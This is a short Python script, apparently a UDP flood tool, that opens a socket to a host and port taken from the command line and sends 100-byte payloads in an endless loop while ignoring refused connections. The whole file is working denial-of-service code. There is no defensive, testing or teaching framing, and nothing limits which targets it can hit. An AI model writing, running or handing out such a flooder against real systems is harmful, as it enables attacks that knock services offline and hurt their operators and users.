"""Sends datagrams to the host and port of the command line without end."""

import socket
import sys

flood = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
flood.connect((sys.argv[1], int(sys.argv[2])))
payload = bytes(100)
while True:
    try:
        flood.send(payload)
    except ConnectionRefusedError:
        pass
